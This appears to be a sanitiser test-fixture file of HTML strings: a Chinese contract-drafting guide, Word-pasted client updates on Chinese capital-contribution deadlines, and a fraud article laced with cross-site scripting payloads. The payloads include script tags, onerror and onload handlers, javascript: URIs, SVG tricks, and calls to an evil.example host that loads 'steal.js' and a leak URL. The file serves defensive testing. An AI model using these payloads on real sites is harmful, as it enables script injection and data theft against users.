<li><strong>第12.3款</strong>，即 <span lang="en-US">sub-clause 12.3</span>
<ul>
<li><strong>第12.3款第（b）项</strong>，即 <span lang="en-US">paragraph 12.3(b)</span></li>
<li><strong>第12.3款第（b）项第（iv）目</strong>，即 <span lang="en-US">item 12.3(b)(iv)</span></li>
</ul>
</li>
</ul>
</li>
</ul>
<p>在文本文件中，同一条款如下所示，可由程序自动比对：</p>
<pre><code>12      责任限制
12.1    除第12.3款另有约定外，任何一方均不对利润损失承担责任。
12.2    一方在本合同项下或与本合同有关的责任总额，
        不超过此前十二个月内已支付的款项。
12.3    本合同任何约定均不限制下列责任：
        (a) 造成对方人身损害的；
        (b) 因下列情形造成对方财产损失的：
            (i)   故意；或
            (ii)  重大过失。</code></pre>
<p>第12.3款并非客套。《民法典》第五百零六条规定，造成对方人身损害，或者因故意、重大过失造成对方财产损失的免责条款无效。</p>
<h2>形似而实异的用语</h2>
<dl>
<dt><span lang="en-US">Best efforts</span>，尽最大努力</dt>
<dd>英国法下标准甚高，且有判例积累；中文语境下多被理解为一般的诚信、勤勉义务。应写明具体行动与期限。</dd>
<dt><span lang="en-US">Indemnify</span>，赔偿或者补偿</dt>
<dd><span lang="en-US">Indemnity</span> 不以违约为前提。“赔偿”易被理解为违约损害赔偿，“补偿”则偏重无过错给付，二者均难以完整对应，应将含义写明。</dd>
<dt><span lang="en-US">Representations and warranties</span>，陈述与保证</dt>
<dd>内地法律并无普通法下的二分，应约定陈述不实的后果。单独使用“保证”一词，还可能指向《民法典》上的保证担保。</dd>
<dt><span lang="en-US">Material</span>，重大</dt>
<dd>给出金额标准或者示例。</dd>
<dt><span lang="en-US">Business day</span>，工作日</dt>
<dd>因调休，星期日也可能是工作日，应按地点界定。</dd>
</dl>
<h2>网址、超长字符及其他易错之处</h2>
<p>通知多以电子邮件和网络平台送达，合同中常出现一行难以容纳的地址。请测试打印后是否仍可辨识：</p>
<ul>
<li>通知平台：<a href="https://notices.example.com/projects/2026/joint-venture/suzhou-industrial-park/phase-2/documents/final-executed-version-with-all-annexes-and-schedules?language=zh-CN&amp;version=7&amp;signatory=harcourt-lin&amp;checksum=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08">https://notices.example.com/projects/2026/joint-venture/suzhou-industrial-park/phase-2/documents/final-executed-version-with-all-annexes-and-schedules?language=zh-CN&amp;version=7&amp;signatory=harcourt-lin&amp;checksum=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</a></li>
<li>签署文件校验值：<code>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a089f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</code></li>
<li>德方股东援引的法律名称：<em lang="de">Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz</em> 第4条</li>
<li>登记表单字段：<code>legalRepresentativeIdentityDocumentIssuingAuthorityAndDateOfExpiryInFourDigitYearFormat</code></li>
<li>无标点长句：甲方确认其已充分阅读并理解本合同全部条款包括但不限于责任限制争议解决通知送达保密义务知识产权归属不可抗力以及各附件附表所载之全部技术指标验收标准付款节点与违约责任且自愿受其约束</li>
</ul>
<h2>签署当日</h2>
<ol>
<li>签署主体
<ul>
<li>中方公司
<ul>
<li>公章（<span lang="en-US">company seal</span>）或者合同专用章（<span lang="en-US">contract seal</span>），并与备案印鉴核对</li>
<li>法定代表人（<span lang="en-US">legal representative</span>）签字，或者由持书面授权书的代理人签字</li>
<li>骑缝章（<span lang="en-US">seal across the page edges</span>）</li>
</ul>
</li>
<li>外方公司
<ul>
<li>签字栏注明签字人身份</li>
<li>董事会决议或者授权委托书；须提交登记机关的，应办理附加证明书</li>
</ul>
</li>
</ul>
</li>
<li>文本份数
<ul>
<li>每种语言的正本份数
<ol>
<li>各方一份</li>
<li>各主管部门一份</li>
<li>备用一份，入柜保管</li>
</ol>
</li>
<li>中英文合订，最好双栏对照</li>
</ul>
</li>
<li>日期：年、月、日写全。<span lang="en-US">03/04/2026</span> 可能是三月四日，也可能是四月三日。</li>
</ol>
<p>最后，核对数字。以我们的经验，每三份双语合同中便有一份金额不一致，多因“万”为 <span lang="en-US">ten thousand</span>、“亿”为 <span lang="en-US">hundred million</span> 而起：人民币12亿元应为 <span lang="en-US">RMB 1.2 billion</span>，而非 <span lang="en-US">RMB 12 billion</span>。</p>`;

/** N-0105: text pasted from Word: Mso classes, office namespaces, conditional comments, empty paragraphs. */
const wordEnglish = `<!--[if gte mso 9]><xml>
 <o:OfficeDocumentSettings>
  <o:AllowPNG/>
  <o:PixelsPerInch>96</o:PixelsPerInch>
 </o:OfficeDocumentSettings>
</xml><![endif]-->
<!--[if gte mso 9]><xml>
 <w:WordDocument>
  <w:View>Normal</w:View>
  <w:Zoom>0</w:Zoom>
  <w:TrackMoves/>
  <w:PunctuationKerning/>
  <w:DrawingGridVerticalSpacing>7.8 pt</w:DrawingGridVerticalSpacing>
  <w:LidThemeOther>EN-GB</w:LidThemeOther>
  <w:LidThemeAsian>ZH-CN</w:LidThemeAsian>
 </w:WordDocument>
</xml><![endif]-->
<!--[if gte mso 10]>
<style>
 /* Style Definitions */
 table.MsoNormalTable
	{mso-style-name:"Table Normal";
	mso-tstyle-rowband-size:0;
	mso-padding-alt:0cm 5.4pt 0cm 5.4pt;
	font-size:10.5pt;
	font-family:"Calibri",sans-serif;}
</style>
<![endif]-->
<!--StartFragment-->
<p class="MsoNormal" align="center" style="text-align:center;mso-pagination:widow-orphan;tab-stops:center 225.65pt"><b style="mso-bidi-font-weight:normal"><span lang="EN-GB" style="font-size:14.0pt;mso-bidi-font-size:12.0pt;font-family:&quot;Times New Roman&quot;,serif;mso-fareast-font-family:SimSun;mso-ansi-language:EN-GB">CLIENT UPDATE<o:p></o:p></span></b></p>
<p class="MsoNormal" align="center" style="text-align:center"><span lang="EN-GB" style="font-size:10.5pt;font-family:&quot;Times New Roman&quot;,serif;mso-ansi-language:EN-GB">8 October 2026&nbsp;&nbsp;|&nbsp;&nbsp;Corporate&nbsp;&nbsp;|&nbsp;&nbsp;4 minutes<o:p></o:p></span></p>
<p class="MsoNormal"><span lang="EN-GB" style="mso-ansi-language:EN-GB"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal" style="text-align:justify;text-justify:inter-ideograph;line-height:150%;mso-layout-grid-align:none"><span lang="EN-GB" style="font-size:12.0pt;line-height:150%;font-family:&quot;Times New Roman&quot;,serif;mso-ansi-language:EN-GB">The Company Law in force since <span class="SpellE">1&nbsp;July&nbsp;2024</span> requires the shareholders of a limited liability company to pay in the capital they have subscribed within five years of the company’s establishment.<span style="mso-spacerun:yes">&nbsp; </span>For companies that existed before, the State Council set a transitional period.<span style="mso-spacerun:yes">&nbsp; </span>It ends on <u><b style="mso-bidi-font-weight:normal">30 June 2027</b></u>, less than nine months from now.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<h2 style="margin-left:0cm;text-indent:0cm;mso-list:none;tab-stops:21.0pt"><a name="_Toc180000001"></a><span style="mso-bookmark:_Toc180000001"><span lang="EN-GB" style="font-family:&quot;Times New Roman&quot;,serif;mso-fareast-font-family:SimHei">1.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp; </span>Who has to act<o:p></o:p></span></span></h2>
<p class="MsoNormal" style="text-align:justify;line-height:150%"><font face="Times New Roman" size="3"><span lang="EN-GB" style="font-size:12.0pt;line-height:150%;mso-ansi-language:EN-GB">A limited liability company registered on or before 30 June 2024 has to act if, counted from 1 July 2027, <i style="mso-bidi-font-style:normal">more than five years</i> of its period for contributions remain.<span style="mso-spacerun:yes">&nbsp;&nbsp; </span>It must by then have shortened the period to at most five years and have recorded the change in its articles.<span style="mso-spacerun:yes">&nbsp; </span>In other words, everything must be paid by 30 June 2032 at the latest.<o:p></o:p></span></font></p>
<p class="MsoNormal" style="text-align:justify;line-height:150%"><font face="Times New Roman" size="3"><span lang="EN-GB" style="font-size:12.0pt;line-height:150%;mso-ansi-language:EN-GB">If the remaining period is shorter, no change is needed.<span style="mso-spacerun:yes">&nbsp; </span>For joint stock companies the rule is stricter: <span style="background:yellow;mso-highlight:yellow">shares subscribed before 1 July 2024 must be fully paid by 30 June 2027</span>.<o:p></o:p></span></font></p>
<p class="MsoNormal"><span lang="EN-GB"><o:p>&nbsp;</o:p></span></p>
<h2 style="margin-left:0cm;text-indent:0cm;mso-list:none"><span lang="EN-GB" style="font-family:&quot;Times New Roman&quot;,serif">2.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp; </span>What happens otherwise<o:p></o:p></span></h2>
<p class="MsoListParagraph" style="margin-left:21.0pt;text-indent:-21.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1;tab-stops:list 21.0pt"><!--[if !supportLists]--><span lang="EN-GB" style="font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang="EN-GB" style="font-size:12.0pt;font-family:&quot;Times New Roman&quot;,serif">The registry may order a correction within ninety days; if nothing is done, it publishes a special mark against the company’s name in the credit information system.<o:p></o:p></span></p>
<p class="MsoListParagraph" style="margin-left:21.0pt;text-indent:-21.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1;tab-stops:list 21.0pt"><!--[if !supportLists]--><span lang="EN-GB" style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang="EN-GB" style="font-size:12.0pt;font-family:&quot;Times New Roman&quot;,serif">Directors have to check whether contributions have been paid when due, and to send a written call.<span style="mso-spacerun:yes">&nbsp; </span>Those responsible for not doing so answer for the loss.<o:p></o:p></span></p>
<p class="MsoListParagraph" style="margin-left:21.0pt;text-indent:-21.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1;tab-stops:list 21.0pt"><!--[if !supportLists]--><span lang="EN-GB" style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang="EN-GB" style="font-size:12.0pt;font-family:&quot;Times New Roman&quot;,serif">Banks and customers see the mark too.<span style="mso-spacerun:yes">&nbsp; </span>In tenders it can be decisive.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<h2 style="margin-left:0cm;text-indent:0cm"><span lang="EN-GB" style="font-family:&quot;Times New Roman&quot;,serif">3.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp; </span>Four ways to comply<o:p></o:p></span></h2>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt;mso-yfti-tbllook:1184;mso-padding-alt:0cm 5.4pt 0cm 5.4pt">
 <tbody><tr style="mso-yfti-irow:0;mso-yfti-firstrow:yes">
  <td width="113" valign="top" style="width:84.85pt;border:solid windowtext 1.0pt;mso-border-alt:solid windowtext .5pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span lang="EN-GB">Way<o:p></o:p></span></b></p></td>
  <td width="227" valign="top" style="width:6.0cm;border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span lang="EN-GB">Suits<o:p></o:p></span></b></p></td>
  <td width="213" valign="top" style="width:159.5pt;border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span lang="EN-GB">Time<o:p></o:p></span></b></p></td>
 </tr>
 <tr style="mso-yfti-irow:1">
  <td width="113" valign="top" style="width:84.85pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Shorten and pay<o:p></o:p></span></p></td>
  <td width="227" valign="top" style="width:6.0cm;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Companies that need the money<o:p></o:p></span></p></td>
  <td width="213" valign="top" style="width:159.5pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">3 to 4 weeks for the articles<o:p></o:p></span></p></td>
 </tr>
 <tr style="mso-yfti-irow:2">
  <td width="113" valign="top" style="width:84.85pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Convert loans<o:p></o:p></span></p></td>
  <td width="227" valign="top" style="width:6.0cm;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Groups with registered shareholder loans<o:p></o:p></span></p></td>
  <td width="213" valign="top" style="width:159.5pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">6 to 10 weeks, with appraisal<o:p></o:p></span></p></td>
 </tr>
 <tr style="mso-yfti-irow:3">
  <td width="113" valign="top" style="width:84.85pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Reduce<o:p></o:p></span></p></td>
  <td width="227" valign="top" style="width:6.0cm;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Companies with more capital on paper than plans<o:p></o:p></span></p></td>
  <td width="213" valign="top" style="width:159.5pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">3 months, notices to creditors included<o:p></o:p></span></p></td>
 </tr>
 <tr style="mso-yfti-irow:4;mso-yfti-lastrow:yes">
  <td width="113" valign="top" style="width:84.85pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Merge or close<o:p></o:p></span></p></td>
  <td width="227" valign="top" style="width:6.0cm;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">Companies no one would found today<o:p></o:p></span></p></td>
  <td width="213" valign="top" style="width:159.5pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><span lang="EN-GB">4 to 12 months<o:p></o:p></span></p></td>
 </tr>
</tbody></table>
<p class="MsoNormal"><span lang="EN-GB" style="display:none;mso-hide:all"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal" style="text-align:justify;line-height:150%"><span lang="EN-GB" style="font-size:12.0pt;line-height:150%;font-family:&quot;Times New Roman&quot;,serif;color:black;mso-themecolor:text1">Anyone who wishes to <span style="mso-bidi-font-weight:bold"><span style="mso-spacerun:yes"><span style="color:#1F3864;mso-themecolor:accent1;mso-themeshade:128"><span style="font-weight:bold">reduce capital</span></span></span></span> should start in January.<span style="mso-spacerun:yes">&nbsp; </span>Creditors are to be notified within ten days of the resolution and by a public announcement within thirty; they have thirty days from the notice, or forty-five from the announcement, to ask for payment or security.<span style="mso-spacerun:yes">&nbsp; </span>Local registries expect many applications in the second quarter.<o:p></o:p></span></p>
<p class="MsoNormal" style="margin-left:1.0cm"><span lang="EN-GB">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;<o:p></o:p></span></p>
<h2 style="margin-left:0cm"><span lang="EN-GB" style="font-family:&quot;Times New Roman&quot;,serif">4.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp; </span>What we suggest<o:p></o:p></span></h2>
<p class="MsoNormal" style="text-align:justify;line-height:150%"><st1:place w:st="on"><font color="#16202A"><span lang="EN-GB" style="font-size:12.0pt;line-height:150%;mso-ansi-language:EN-GB">Make a list of your Chinese companies, with capital subscribed, capital paid and the last date of payment.</span></font></st1:place><span lang="EN-GB" style="font-size:12.0pt;line-height:150%"><span style="mso-spacerun:yes">&nbsp; </span>Decide for each which of the four ways fits.<span style="mso-spacerun:yes">&nbsp; </span>Read the loan agreements: a reduction is often an event of default.<span style="mso-spacerun:yes">&nbsp; </span>Then put the item on the agenda of the next board meeting, so that the minutes show it was there.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal" style="border:none;border-top:solid windowtext .5pt;padding:1.0pt 0cm 0cm 0cm;mso-border-top-alt:solid windowtext .5pt"><i><span lang="EN-GB" style="font-size:9.0pt;font-family:&quot;Times New Roman&quot;,serif">This update is for general information only.<span style="mso-spacerun:yes">&nbsp; </span>Questions: <a href="mailto:corporate@harcourt-lin.example"><span style="color:#0563C1;mso-themecolor:hyperlink">corporate@harcourt-lin.example</span></a><o:p></o:p></span></i></p>
<!--EndFragment-->`;

const wordChinese = `<!--[if gte mso 9]><xml>
 <w:WordDocument>
  <w:View>Normal</w:View>
  <w:Zoom>0</w:Zoom>
  <w:PunctuationKerning/>
  <w:DrawingGridVerticalSpacing>7.8 磅</w:DrawingGridVerticalSpacing>
  <w:LidThemeOther>EN-US</w:LidThemeOther>
  <w:LidThemeAsian>ZH-CN</w:LidThemeAsian>
  <w:Compatibility>
   <w:SpaceForUL/>
   <w:BalanceSingleByteDoubleByteWidth/>
   <w:DoNotLeaveBackslashAlone/>
   <w:UseFELayout/>
  </w:Compatibility>
 </w:WordDocument>
</xml><![endif]-->
<!--StartFragment-->
<p class="MsoNormal" align="center" style="text-align:center;line-height:28.0pt;mso-line-height-rule:exactly"><b style="mso-bidi-font-weight:normal"><span style="font-size:16.0pt;font-family:黑体;mso-bidi-font-family:宋体">客户简讯<span lang="EN-US"><o:p></o:p></span></span></b></p>
<p class="MsoNormal" align="center" style="text-align:center"><span lang="EN-US" style="font-family:宋体">2026</span><span style="font-family:宋体">年<span lang="EN-US">10</span>月<span lang="EN-US">8</span>日<span lang="EN-US">&nbsp;&nbsp;&nbsp;&nbsp;</span>公司法业务组<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal" style="text-indent:24.0pt;mso-char-indent-count:2.0;line-height:150%"><span style="font-size:12.0pt;line-height:150%;font-family:宋体;mso-ascii-font-family:&quot;Times New Roman&quot;;mso-hansi-font-family:&quot;Times New Roman&quot;">自<span lang="EN-US">2024</span>年<span lang="EN-US">7</span>月<span lang="EN-US">1</span>日起施行的《公司法》规定，有限责任公司全体股东认缴的出资额，由股东按照公司章程的规定自公司成立之日起五年内缴足。对于施行前已登记设立的公司，国务院规定了过渡期安排。该过渡期将于<u><b style="mso-bidi-font-weight:normal"><span lang="EN-US">2027</span>年<span lang="EN-US">6</span>月<span lang="EN-US">30</span>日</b></u>届满，所余不足九个月。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<h2 style="line-height:150%;mso-pagination:widow-orphan"><a name="_Toc180000001"></a><span style="mso-bookmark:_Toc180000001"><span style="font-size:14.0pt;line-height:150%;font-family:黑体">一、哪些公司需要调整<span lang="EN-US"><o:p></o:p></span></span></span></h2>
<p class="MsoNormal" style="text-indent:24.0pt;mso-char-indent-count:2.0;line-height:150%"><font face="宋体" size="3"><span style="font-size:12.0pt;line-height:150%;font-family:宋体"><span lang="EN-US">2024</span>年<span lang="EN-US">6</span>月<span lang="EN-US">30</span>日前登记设立的有限责任公司，剩余认缴出资期限自<span lang="EN-US">2027</span>年<span lang="EN-US">7</span>月<span lang="EN-US">1</span>日起<i style="mso-bidi-font-style:normal">超过五年</i>的，应当在<span lang="EN-US">2027</span>年<span lang="EN-US">6</span>月<span lang="EN-US">30</span>日前将其剩余认缴出资期限调整至五年内，并记载于公司章程；换言之，最迟应于<span lang="EN-US">2032</span>年<span lang="EN-US">6</span>月<span lang="EN-US">30</span>日前缴足。剩余期限不足五年的，无须调整。<span lang="EN-US"><o:p></o:p></span></span></font></p>
<p class="MsoNormal" style="text-indent:24.0pt;mso-char-indent-count:2.0;line-height:150%"><font face="宋体" size="3"><span style="font-size:12.0pt;line-height:150%;font-family:宋体">股份有限公司的要求更为严格：<span style="background:yellow;mso-highlight:yellow">发起人应当在<span lang="EN-US">2027</span>年<span lang="EN-US">6</span>月<span lang="EN-US">30</span>日前按照其认购的股份全额缴纳股款</span>。<span lang="EN-US"><o:p></o:p></span></span></font></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<h2 style="line-height:150%"><span style="font-size:14.0pt;line-height:150%;font-family:黑体">二、逾期未调整的后果<span lang="EN-US"><o:p></o:p></span></span></h2>
<p class="MsoListParagraph" style="margin-left:42.0pt;text-indent:-18.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span lang="EN-US" style="font-size:12.0pt;font-family:宋体"><span style="mso-list:Ignore">1.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span style="font-size:12.0pt;font-family:宋体">公司登记机关可责令九十日内改正；逾期未改正的，在国家企业信用信息公示系统作出特别标注并向社会公示。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoListParagraph" style="margin-left:42.0pt;text-indent:-18.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span lang="EN-US" style="font-size:12.0pt;font-family:宋体"><span style="mso-list:Ignore">2.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span style="font-size:12.0pt;font-family:宋体">董事会应当核查股东出资情况，发现未按期足额缴纳的，应当发出书面催缴书；未及时履行并给公司造成损失的，负有责任的董事应当承担赔偿责任。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoListParagraph" style="margin-left:42.0pt;text-indent:-18.0pt;mso-char-indent-count:0;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span lang="EN-US" style="font-size:12.0pt;font-family:宋体"><span style="mso-list:Ignore">3.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span style="font-size:12.0pt;font-family:宋体">特别标注将为银行、客户所知悉，对融资与投标均有影响。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<h2 style="line-height:150%"><span style="font-size:14.0pt;line-height:150%;font-family:黑体">三、四种应对方式<span lang="EN-US"><o:p></o:p></span></span></h2>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt;mso-yfti-tbllook:1184;mso-padding-alt:0cm 5.4pt 0cm 5.4pt">
 <tbody><tr style="mso-yfti-irow:0;mso-yfti-firstrow:yes">
  <td width="142" valign="top" style="width:106.5pt;border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span style="font-family:宋体">方式<span lang="EN-US"><o:p></o:p></span></span></b></p></td>
  <td width="236" valign="top" style="width:177.0pt;border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span style="font-family:宋体">适合<span lang="EN-US"><o:p></o:p></span></span></b></p></td>
  <td width="175" valign="top" style="width:131.0pt;border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b><span style="font-family:宋体">所需时间<span lang="EN-US"><o:p></o:p></span></span></b></p></td>
 </tr>
 <tr style="mso-yfti-irow:1">
  <td width="142" valign="top" style="width:106.5pt"><p class="MsoNormal"><span style="font-family:宋体">缩短期限并实缴</span></p></td>
  <td width="236" valign="top" style="width:177.0pt"><p class="MsoNormal"><span style="font-family:宋体">确有资金需求的公司</span></p></td>
  <td width="175" valign="top" style="width:131.0pt"><p class="MsoNormal"><span style="font-family:宋体">修改章程约三至四周</span></p></td>
 </tr>
 <tr style="mso-yfti-irow:2">
  <td width="142" valign="top" style="width:106.5pt"><p class="MsoNormal"><span style="font-family:宋体">债权转股权</span></p></td>
  <td width="236" valign="top" style="width:177.0pt"><p class="MsoNormal"><span style="font-family:宋体">有已登记股东借款的集团</span></p></td>
  <td width="175" valign="top" style="width:131.0pt"><p class="MsoNormal"><span style="font-family:宋体">含评估约六至十周</span></p></td>
 </tr>
 <tr style="mso-yfti-irow:3">
  <td width="142" valign="top" style="width:106.5pt"><p class="MsoNormal"><span style="font-family:宋体">减少注册资本</span></p></td>
  <td width="236" valign="top" style="width:177.0pt"><p class="MsoNormal"><span style="font-family:宋体">注册资本远超实际需要的公司</span></p></td>
  <td width="175" valign="top" style="width:131.0pt"><p class="MsoNormal"><span style="font-family:宋体">含通知公告约三个月</span></p></td>
 </tr>
 <tr style="mso-yfti-irow:4;mso-yfti-lastrow:yes">
  <td width="142" valign="top" style="width:106.5pt"><p class="MsoNormal"><span style="font-family:宋体">合并或者注销</span></p></td>
  <td width="236" valign="top" style="width:177.0pt"><p class="MsoNormal"><span style="font-family:宋体">已无存续必要的公司</span></p></td>
  <td width="175" valign="top" style="width:131.0pt"><p class="MsoNormal"><span style="font-family:宋体">四至十二个月</span></p></td>
 </tr>
</tbody></table>
<p class="MsoNormal"><span lang="EN-US" style="display:none;mso-hide:all"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal" style="text-indent:24.0pt;mso-char-indent-count:2.0;line-height:150%"><span style="font-size:12.0pt;line-height:150%;font-family:宋体;color:black;mso-themecolor:text1">拟<span style="mso-bidi-font-weight:bold"><span style="color:#1F3864;mso-themecolor:accent1"><span style="font-weight:bold">减资</span></span></span>的公司宜于明年一月启动：应自决议作出之日起十日内通知债权人，并于三十日内公告；债权人自接到通知之日起三十日内，未接到通知的自公告之日起四十五日内，有权要求清偿债务或者提供相应的担保。预计明年第二季度各地登记机关申请量将明显增加。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoNormal" style="text-indent:24.0pt"><span lang="EN-US">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;<o:p></o:p></span></p>
<h2 style="line-height:150%"><span style="font-size:14.0pt;line-height:150%;font-family:黑体">四、我们的建议<span lang="EN-US"><o:p></o:p></span></span></h2>
<p class="MsoNormal" style="text-indent:24.0pt;mso-char-indent-count:2.0;line-height:150%"><st1:chsdate w:st="on" year="2026" month="10" day="8"><font color="#16202A"><span style="font-size:12.0pt;line-height:150%;font-family:宋体">梳理全部境内公司，列明认缴额、实缴额与最后缴纳日期，</span></font></st1:chsdate><span style="font-size:12.0pt;line-height:150%;font-family:宋体">逐家确定采用何种方式；同时复核贷款合同，减资往往构成违约事件；并将该事项列入下次董事会议程，以会议记录体现董事已尽核查义务。<span lang="EN-US"><o:p></o:p></span></span></p>
<p class="MsoNormal"><span lang="EN-US"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal" style="border:none;border-top:solid windowtext .5pt;padding:1.0pt 0cm 0cm 0cm"><span style="font-size:9.0pt;font-family:宋体">本简讯仅供一般参考。咨询邮箱：<span lang="EN-US"><a href="mailto:corporate@harcourt-lin.example"><span style="color:#0563C1">corporate@harcourt-lin.example</span></a></span><span lang="EN-US"><o:p></o:p></span></span></p>
<!--EndFragment-->`;

/** N-0106: hostile markup among harmless paragraphs; a script that runs sets `window.__pwned`. */
const hostileEnglish = `<p>The message arrives on a Friday afternoon. It comes from the supplier’s usual contact, quotes the right invoice, and says that the bank account has changed. The accounts department, anxious to help before the weekend, pays. On Monday the real supplier asks where the money is. Business e-mail compromise needs no broken password on your side, and it is now the fraud that our clients report most often.</p>
<script>window.__pwned = true;</script>
<script src="https://evil.example/steal.js"></script>
<SCRIPT type="text/javascript">window['__pwned'] = true</SCRIPT>
<style>@import url(https://evil.example/a.css); body { background: url("https://evil.example/leak?c=1") } a[href^="/"] { display: none }</style>
<link rel="stylesheet" href="https://evil.example/b.css">
<h2 id="location">How the fraud works</h2>
<p id="getElementById" onclick="window.__pwned = true" onmouseover="window.__pwned = true">In most cases one of the two mailboxes was read for weeks. The fraudsters learn who pays whom, when, and in what tone. Then they register a domain that differs by a letter, or write from the mailbox itself, and enter the conversation at the right moment.</p>
<img src="x" onerror="window.__pwned = true" alt="Envelope with two addresses">
<img src="/files/seed/figure-1.webp" onload="window.__pwned = true" alt="Diagram of the stages of a payment fraud" width="1200" height="800">
<img src="javascript:window.__pwned=true" alt="">
<img srcset="https://evil.example/pixel-1x.png 1x, https://evil.example/pixel-2x.png 2x" src="https://evil.example/pixel.png" alt="" name="querySelector">
<picture><source srcset="https://evil.example/source.webp" onerror="window.__pwned = true"><img src="x" onerror=window.__pwned=true alt=""></picture>
<video poster="https://evil.example/poster.jpg" autoplay onloadstart="window.__pwned = true"><source src="x" onerror="window.__pwned = true"></video>
<audio src="x" autoplay onerror="window.__pwned = true"></audio>
<svg onload="window.__pwned = true" width="20" height="20"><circle cx="10" cy="10" r="9"></circle></svg>
<svg><script>window.__pwned = true</script><animate onbegin="window.__pwned = true" attributeName="x" dur="1s"></animate><a xlink:href="javascript:window.__pwned=true"><text y="12">Read the report</text></a><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ3aW5kb3cuX19wd25lZD10cnVlIi8+#x"></use><foreignObject><iframe srcdoc="&lt;script&gt;parent.__pwned=true&lt;/script&gt;"></iframe></foreignObject></svg>
